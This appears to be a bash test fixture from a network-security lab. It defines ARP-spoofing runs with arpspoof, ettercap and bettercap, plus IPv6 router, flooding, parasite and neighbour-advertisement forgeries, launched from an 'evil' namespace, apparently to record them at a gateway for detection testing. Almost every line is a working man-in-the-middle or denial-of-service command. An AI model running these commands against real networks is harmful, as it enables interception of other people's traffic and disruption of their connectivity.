# Forgeries on the inside link, recorded on the gateway's inner bridge. Sourced by attacks.sh.
# shellcheck shell=bash disable=SC2034

EVIL_MAC=02:00:5e:00:02:66

tool arpspoof_one arp-spoof evil $DESK $EVIL_MAC br-lan; arpspoof_one() { on 20 arpspoof -i eth0 -t $DESK 10.20.0.1; }
tool arpspoof_both arp-spoof evil $DESK $EVIL_MAC br-lan; arpspoof_both() { on 20 arpspoof -i eth0 -r -t $DESK 10.20.0.1; }
tool ettercap_arp arp-spoof evil $DESK $EVIL_MAC br-lan; ettercap_arp() { on 25 ettercap -T -q -o -i eth0 -M arp:remote /$DESK// /10.20.0.1//; }
tool fake_router arp-spoof evil '' $EVIL_MAC br-lan; fake_router() { on 20 atk6-fake_router6 eth0 2001:db8:bad::/64; }
# It writes other link addresses than its own.
tool flood_router arp-spoof evil '' - br-lan; flood_router() { on 3 atk6-flood_router6 eth0; }
tool parasite arp-spoof evil 2001:db8:20::10 $EVIL_MAC br-lan; parasite() { ns_start evil timeout 20 atk6-parasite6 -l eth0; sleep 1; on_host web 15 bash -c 'for i in 1 2 3 4 5; do ip -6 neigh flush dev eth0; ping -6 -c 2 -W 1 2001:db8:20::1; done'; }
tool fake_advertise arp-spoof evil 2001:db8:20::1 $EVIL_MAC br-lan; fake_advertise() { on 20 atk6-fake_advertise6 eth0 2001:db8:20::1; }
tool bettercap_arp arp-spoof evil $DESK $EVIL_MAC br-lan; bettercap_arp() { on 5 ping -q -c 2 10.20.0.1; on 5 ping -q -c 2 $DESK; on 25 bettercap -no-colors -iface eth0 -gateway-override 10.20.0.1 -eval "net.recon on; sleep 2; set arp.spoof.targets $DESK; set arp.spoof.fullduplex true; arp.spoof on; sleep 15; quit"; }
